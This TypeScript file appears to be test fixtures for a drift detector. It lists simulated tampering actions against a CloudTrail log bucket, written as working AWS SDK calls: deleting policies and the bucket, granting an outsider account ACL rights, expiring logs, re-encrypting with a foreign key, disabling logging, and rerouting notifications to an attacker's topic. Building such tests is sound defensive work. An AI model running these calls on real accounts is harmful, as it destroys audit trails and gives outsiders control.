import {
  DeleteBucketCommand,
  DeleteBucketEncryptionCommand,
  DeleteBucketLifecycleCommand,
  DeleteBucketOwnershipControlsCommand,
  DeleteBucketPolicyCommand,
  DeletePublicAccessBlockCommand,
  GetBucketAclCommand,
  PutBucketAclCommand,
  PutBucketLoggingCommand,
  PutBucketNotificationConfigurationCommand,
  PutBucketRequestPaymentCommand,
  PutPublicAccessBlockCommand,
} from '@aws-sdk/client-s3';
import type { Attack } from './attack.ts';
import type { Clients } from './clients.ts';
import { editPolicy, encryptWith, expire, ownObjects, setVersioning } from './log-bucket.ts';
import { canonicalId } from './s3/acls.ts';
import { outsider, topicArn } from './seed.ts';

/** An attack on a log bucket. */
export type BucketAttack = Attack<Pick<Clients, 's3'>> & {
  /** The fields of the drift kind that show it. */
  readonly fields: readonly string[];
};

export const bucketDeletion: BucketAttack = {
  id: 'B3a',
  title: 'deletes the bucket',
  fields: ['Region'],
  call: ({ s3 }, Bucket) => s3.send(new DeleteBucketCommand({ Bucket })),
};

/** The attacks on a bucket that exists. It is one that `protectBucket` configured. */
export const bucketAttacks: readonly BucketAttack[] = [
  {
    id: 'B1a',
    title: 'removes a statement of CloudTrail',
    fields: ['CloudTrailStatements'],
    call: ({ s3 }, Bucket) => editPolicy(s3, Bucket, (all) => all.slice(1)),
  },
  {
    id: 'B1b',
    title: 'denies CloudTrail to write',
    fields: ['Denials'],
    call: ({ s3 }, Bucket) => editPolicy(s3, Bucket, (all) => [...all, denialOfWrites(Bucket)]),
  },
  {
    id: 'B1c',
    title: 'restricts CloudTrail to another trail',
    fields: ['CloudTrailStatements', 'OtherStatements'],
    call: ({ s3 }, Bucket) =>
      editPolicy(s3, Bucket, (all) =>
        all.map((one) => ({
          ...one,
          Condition: {
            StringEquals: { 'aws:SourceArn': 'arn:aws:cloudtrail:us-east-1:1:trail/x' },
          },
        })),
      ),
  },
  {
    id: 'B1e',
    title: 'denies writes from addresses that are not hers',
    fields: ['Denials'],
    call: ({ s3 }, Bucket) =>
      editPolicy(s3, Bucket, (all) => [
        ...all,
        {
          ...denialOfWrites(Bucket),
          Condition: { NotIpAddress: { 'aws:SourceIp': '203.0.113.0/24' } },
        },
      ]),
  },
  {
    id: 'B1d',
    title: 'deletes the policy',
    fields: ['CloudTrailStatements', 'OtherStatements'],
    call: ({ s3 }, Bucket) => s3.send(new DeleteBucketPolicyCommand({ Bucket })),
  },
  {
    id: 'B8a',
    title: 'no longer blocks public access',
    fields: ['PublicAccessBlock'],
    call: ({ s3 }, Bucket) => s3.send(new DeletePublicAccessBlockCommand({ Bucket })),
  },
  {
    id: 'B8b',
    title: 'allows public policies',
    fields: ['PublicAccessBlock'],
    call: ({ s3 }, Bucket) =>
      s3.send(
        new PutPublicAccessBlockCommand({
          Bucket,
          PublicAccessBlockConfiguration: { BlockPublicAcls: true, IgnorePublicAcls: true },
        }),
      ),
  },
  {
    id: 'B8c',
    title: 'lets everyone write to the bucket with an ACL',
    fields: ['PublicAccessBlock', 'OwnershipControls', 'Acl'],
    async call({ s3 }, Bucket) {
      await s3.send(new DeletePublicAccessBlockCommand({ Bucket }));
      await s3.send(ownObjects(Bucket, 'ObjectWriter'));
      await s3.send(new PutBucketAclCommand({ Bucket, ACL: 'public-read-write' }));
    },
  },
  {
    id: 'B8d',
    title: 'gives her own account the bucket with an ACL',
    fields: ['OwnershipControls', 'Acl'],
    async call({ s3 }, Bucket) {
      await s3.send(ownObjects(Bucket, 'BucketOwnerPreferred'));
      const { Owner, Grants = [] } = await s3.send(new GetBucketAclCommand({ Bucket }));
      const Grantee = { Type: 'CanonicalUser' as const, ID: canonicalId(outsider.accountId) };
      await s3.send(
        new PutBucketAclCommand({
          Bucket,
          AccessControlPolicy: { Owner, Grants: [...Grants, { Grantee, Permission: 'WRITE_ACP' }] },
        }),
      );
    },
  },
  {
    id: 'B9a',
    title: 'lets access control lists apply',
    fields: ['OwnershipControls'],
    call: ({ s3 }, Bucket) => s3.send(new DeleteBucketOwnershipControlsCommand({ Bucket })),
  },
  {
    id: 'B9b',
    title: 'gives objects to their writer',
    fields: ['OwnershipControls'],
    call: ({ s3 }, Bucket) => s3.send(ownObjects(Bucket, 'BucketOwnerPreferred')),
  },
  {
    id: 'B5',
    title: 'suspends versioning',
    fields: ['Versioning'],
    call: ({ s3 }, Bucket) => s3.send(setVersioning(Bucket, 'Suspended')),
  },
  {
    id: 'B2a',
    title: 'expires log files after a day',
    fields: ['Lifecycle'],
    call: ({ s3 }, Bucket) => s3.send(expire(Bucket, 1)),
  },
  {
    id: 'B2b',
    title: 'deletes the lifecycle rules',
    fields: ['Lifecycle'],
    call: ({ s3 }, Bucket) => s3.send(new DeleteBucketLifecycleCommand({ Bucket })),
  },
  {
    id: 'B6a',
    title: 'encrypts log files with her key',
    fields: ['Encryption'],
    call: ({ s3 }, Bucket) =>
      s3.send(encryptWith(Bucket, 'arn:aws:kms:us-east-1:444455556666:key/9b3d7e52')),
  },
  {
    id: 'B6b',
    title: 'deletes the default encryption',
    fields: ['Encryption'],
    call: ({ s3 }, Bucket) => s3.send(new DeleteBucketEncryptionCommand({ Bucket })),
  },
  {
    id: 'B9c',
    title: 'lets requesters pay',
    fields: ['RequestPayment'],
    call: ({ s3 }, Bucket) =>
      s3.send(
        new PutBucketRequestPaymentCommand({
          Bucket,
          RequestPaymentConfiguration: { Payer: 'Requester' },
        }),
      ),
  },
  {
    id: 'B10a',
    title: 'stops logging who uses the bucket',
    fields: ['Logging'],
    call: ({ s3 }, Bucket) =>
      s3.send(new PutBucketLoggingCommand({ Bucket, BucketLoggingStatus: {} })),
  },
  {
    id: 'B10b',
    title: 'stops notifying anyone of log files',
    fields: ['Notifications'],
    call: ({ s3 }, Bucket) =>
      s3.send(
        new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} }),
      ),
  },
  {
    id: 'B10c',
    title: 'notifies her own topic of log files',
    fields: ['Notifications'],
    call: ({ s3 }, Bucket) =>
      s3.send(
        new PutBucketNotificationConfigurationCommand({
          Bucket,
          NotificationConfiguration: {
            TopicConfigurations: [
              {
                TopicArn: topicArn.replace('org-trail-delivered', 'attackers-topic'),
                Events: ['s3:ObjectCreated:*'],
              },
            ],
          },
        }),
      ),
  },
];

/** A statement that denies everyone to write objects. */
function denialOfWrites(Bucket: string): Readonly<Record<string, unknown>> {
  return {
    Effect: 'Deny',
    Principal: '*',
    Action: 's3:PutObject',
    Resource: `arn:aws:s3:::${Bucket}/*`,
  };
}
